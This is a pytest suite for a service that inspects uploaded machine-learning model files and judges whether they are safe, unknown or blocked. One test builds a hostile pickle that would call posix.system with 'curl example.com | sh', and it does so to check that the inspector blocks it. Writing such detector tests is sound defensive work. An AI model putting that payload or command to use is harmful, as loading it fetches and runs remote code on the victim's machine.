"""Inspection of model files that people really bring: recognised by content, safe, with what they take and give."""

import io
import json
import pickle
import shutil
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import pytest

from services.models.inspection import NotAModel, inspect
from services.models.intake import Column, Intake
from tests.models import trained
from tests.models.hostile.formats import FILES, zipped

NAMES = (
    "forest", "boosting", "histograms", "logistic", "sgd", "svc", "knn", "balls", "network", "clusters", "outliers",
    "calibrated", "search", "stacked", "votes", "splines", "process", "functions", "scaler", "texts", "encoder",
    "churn", "named",
)  # fmt: skip

FLOWER = ("sepal_length", "sepal_width", "petal_length", "petal_width")


def look(tmp_path: Path, data: bytes, name: str = "model.bin") -> Intake:
    """Inspect bytes under a name that says nothing."""
    path = tmp_path / name
    path.write_bytes(data)
    return inspect(path)


def dumped(model: Any, **options: Any) -> bytes:
    """A model as joblib writes it."""
    out = io.BytesIO()
    joblib.dump(model, out, **options)
    return out.getvalue()


@pytest.mark.parametrize("name", NAMES)
def test_every_usual_model_is_safe_however_it_is_pickled(tmp_path, name):
    """Pickles of all protocols and joblib files of an estimator are safe and name it."""
    model = trained.everything()[name]
    files = [pickle.dumps(model, protocol) for protocol in range(6)] + [dumped(model)]
    for data in files:
        found = look(tmp_path, data)
        assert (found.verdict, found.reasons) == ("safe", ())
        assert found.framework == "scikit-learn"
        assert (
            found.details["estimator"] == type(model["model"] if isinstance(model, dict) else model).__name__
        )


@pytest.mark.parametrize("compression", ["zlib", "gzip", "bz2", "lzma", "xz"])
def test_compressed_joblib_files_are_opened(tmp_path, compression):
    """All of joblib's own compressions are read."""
    found = look(tmp_path, dumped(trained.everything()["churn"], compress=(compression, 3)))
    assert (found.format, found.verdict) == ("joblib", "safe")
    assert found.details["compression"] == compression


def test_a_pipeline_tells_its_columns_with_kinds_and_categories(tmp_path):
    """Column names, the encoder's categories, classes and the version come from the file alone."""
    found = look(tmp_path, dumped(trained.everything()["churn"]))
    assert found.inputs == (
        Column("age", "float64"),
        Column("city", "str", (), ("Bern", "Oslo", "Rome")),
        Column("income", "float64"),
        Column("level", "int64", (), (1, 2, 3)),
    )
    assert found.outputs == (Column("prediction", "str", (), ("no", "yes")),)
    assert found.columns == "table" and found.details["classes"] == ["no", "yes"]
    assert found.versions == {"scikit-learn": __import__("sklearn").__version__}


@pytest.mark.parametrize(
    ("name", "task", "probabilities"),
    [
        ("forest", "classification", True), ("svc", "classification", False), ("sgd", "classification", True),
        ("search", "classification", True), ("stacked", "classification", True), ("votes", "classification", True),
        ("histograms", "regression", False), ("clusters", "clustering", False), ("scaler", "transform", False),
        ("calibrated", "classification", True), ("texts", "classification", True), ("named", "classification", True),
    ],
)  # fmt: skip
def test_task_and_probabilities_are_those_of_the_model(tmp_path, name, task, probabilities):
    """What the file says agrees with the fitted estimator."""
    model = trained.everything()[name]
    model = model["model"] if isinstance(model, dict) else model
    details = look(tmp_path, dumped(trained.everything()[name])).details
    assert (details["task"], details["probabilities"]) == (task, probabilities)
    assert details["probabilities"] == hasattr(model, "predict_proba")


def test_columns_without_names_are_counted(tmp_path):
    """An estimator that was fitted on an array has x0, x1, ..."""
    model = trained.LinearRegression().fit(np.eye(3), [1.0, 2.0, 3.0])
    found = look(tmp_path, pickle.dumps(model))
    assert [one.name for one in found.inputs] == ["x0", "x1", "x2"]
    assert found.details["named"] is False and found.details["n_features"] == 3


@pytest.mark.parametrize(
    ("name", "format", "framework", "inputs"),
    [
        ("classifier.onnx", "onnx", "onnx", [("X", "float32", (None, 4))]),
        ("zipmap.onnx", "onnx", "onnx", [("X", "float32", (None, 4))]),
        ("xgboost.json", "xgboost", "xgboost", [(name, "float32", ()) for name in FLOWER]),
        ("xgboost.ubj", "xgboost", "xgboost", [(name, "float32", ()) for name in FLOWER]),
        ("xgboost_unnamed.json", "xgboost", "xgboost", [(f"x{i}", "float32", ()) for i in range(4)]),
        ("lightgbm.txt", "lightgbm", "lightgbm", [(name, "float64", ()) for name in FLOWER]),
        ("pipeline.skops", "skops", "scikit-learn", [(name, "float64", ()) for name in FLOWER]),
        ("network.keras", "keras", "keras", [("input_layer", "float32", (None, 4))]),
        ("network.h5", "keras-h5", "keras", [("input_layer", "float32", (None, 4))]),
        ("torchscript.pt", "torchscript", "pytorch", [("input", "", ())]),
        ("exported.pt2", "torch-pt2", "pytorch", [("input", "float32", (2, 4))]),
        ("state_dict.pt", "torch-checkpoint", "pytorch", []),
        ("state_dict_legacy.pt", "torch-checkpoint", "pytorch", []),
        ("checkpoint.pt", "torch-checkpoint", "pytorch", []),
        ("weights.safetensors", "safetensors", "safetensors", []),
        ("lm.rds", "rds", "r", [("wt", "float64", ()), ("hp", "float64", ())]),
        ("lm_xz.rds", "rds", "r", [("Species", "str", ()), ("Petal.Length", "float64", ())]),
        ("glm.rds", "rds", "r", [("Sepal.Length", "float64", ()), ("Species", "str", ())]),
        ("kmeans.rds", "rds", "r", []),
    ],
)  # fmt: skip
def test_files_of_other_frameworks_are_known_by_content(tmp_path, name, format, framework, inputs):
    """Each is recognised under a wrong suffix, is safe, and says what it takes."""
    path = tmp_path / "upload.pdf"
    shutil.copy(FILES / name, path)
    found = inspect(path)
    assert (found.format, found.framework, found.verdict, found.reasons) == (format, framework, "safe", ())
    assert [(one.name, one.dtype, one.shape) for one in found.inputs] == inputs


def test_what_else_the_files_say(tmp_path):
    """Versions, classes, levels, shapes of weights."""
    assert inspect(FILES / "xgboost.ubj").details["classes"] == [0, 1, 2]
    assert inspect(FILES / "xgboost.json").versions["xgboost"] == "3.2.0"
    assert inspect(FILES / "lightgbm.txt").details["num_class"] == 3
    assert inspect(FILES / "classifier.onnx").details["opset"]["ai.onnx.ml"] == 1
    assert [one.name for one in inspect(FILES / "zipmap.onnx").outputs] == [
        "output_label",
        "output_probability",
    ]
    assert inspect(FILES / "glm.rds").inputs[1].categories == ("setosa", "versicolor", "virginica")
    assert inspect(FILES / "glm.rds").details["formula"] == "wide ~ Sepal.Length + Species"
    assert inspect(FILES / "glm.rds").versions == {"r": "4.2.2"}
    assert inspect(FILES / "state_dict.pt").details["tensors"] == {"0.weight": [3, 4], "0.bias": [3]}
    assert "TorchScript" in inspect(FILES / "state_dict.pt").details["advice"]
    assert inspect(FILES / "network.keras").versions == {"keras": "3.15.1"}
    assert inspect(FILES / "exported.pt2").outputs[0].shape == (2, 3)


def test_an_mlflow_folder_tells_of_the_model_in_it(tmp_path):
    """Signature, flavors and requirements come from MLmodel, the rest from the file that it loads."""
    text = (
        "flavors:\n  python_function: {loader_module: mlflow.sklearn, model_path: model.pkl}\n"
        "  sklearn: {pickled_model: model.pkl, sklearn_version: 1.9.1}\nmlflow_version: 3.6.0\n"
        'signature:\n  inputs: \'[{"type": "double", "name": "age"}, {"type": "string", "name": "city"}]\'\n'
    )
    members = {"MLmodel": text.encode(), "model.pkl": pickle.dumps(trained.everything()["logistic"])}
    members["requirements.txt"] = (
        b"scikit-learn==1.9.1\nnumpy==2.4.6\nscipy>=1.10,<2; python_version > '3.9'\n"
    )
    for archive in (zipped(members), zipped({f"folder/{name}": data for name, data in members.items()})):
        found = look(tmp_path, archive)
        assert (found.format, found.framework, found.verdict, found.reasons) == (
            "mlflow",
            "mlflow",
            "safe",
            (),
        )
        assert found.inputs == (Column("age", "float64"), Column("city", "str"))
        assert found.versions == {"scikit-learn": "1.9.1", "numpy": "2.4.6", "mlflow": "3.6.0"}
        assert found.details["estimator"] == "LogisticRegression"


def test_an_intake_goes_through_json_and_back(tmp_path):
    """The database and `inspect --json` keep all of it."""
    for path in sorted(FILES.glob("*.*")):
        found = inspect(path)
        assert Intake.of(json.loads(json.dumps(found.data(), allow_nan=False))) == found


def test_size_and_hash_are_those_of_the_file_and_progress_ends_at_one(tmp_path):
    """The hash is the one that `sha256sum` gives."""
    import hashlib

    said: list[float] = []
    path = FILES / "network.keras"
    found = inspect(path, name="mine.keras", say=said.append)
    assert found.sha256 == hashlib.sha256(path.read_bytes()).hexdigest() and found.size == path.stat().st_size
    assert said == sorted(said) and said[-1] == 1.0


def test_a_class_of_ones_own_is_unknown_with_the_reason(tmp_path):
    """What is not on the list is not called dangerous, and not safe either."""
    data = b"\x80\x04\x8c\x07my_code\x8c\x05Model\x93)\x81}b."
    found = look(tmp_path, data)
    assert found.verdict == "unknown" and "my_code.Model" in found.reasons[0]


def test_a_call_is_blocked_with_its_arguments(tmp_path):
    """The reason says what would happen, with what, and where in the file."""
    found = look(tmp_path, b"cposix\nsystem\n(S'curl example.com | sh'\ntR.")
    assert found.verdict == "blocked"
    assert any(
        "posix.system would be called with ('curl example.com | sh')" in one and "byte" in one
        for one in found.reasons
    )


@pytest.mark.parametrize(("make", "words"), [
    (lambda path: path.write_bytes(b""), "is empty"),
    (lambda path: path.mkdir(), "is a folder"),
    (lambda path: None, "There is no file"),
])  # fmt: skip
def test_what_cannot_be_looked_at_is_said(tmp_path, make, words):
    """An empty file, a folder and nothing at all are refused in words for a user, with the user's name for it."""
    path = tmp_path / "upload"
    make(path)
    with pytest.raises(NotAModel, match=words) as refused:
        inspect(path, name="churn.pkl")
    assert "churn.pkl" in str(refused.value)


@pytest.mark.parametrize("length", [128, 384, 640])
def test_a_header_whose_length_begins_like_a_pickle_is_still_one_of_safetensors(
    length: int, tmp_path: Path
) -> None:
    """The first byte of a length of 128 is a pickle's signature; the zero that follows is no instruction of one."""
    header = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).ljust(length)
    file = tmp_path / "weights"
    file.write_bytes(length.to_bytes(8, "little") + header.encode() + bytes(8))
    found = inspect(file)
    assert (found.format, found.verdict) == ("safetensors", "safe")
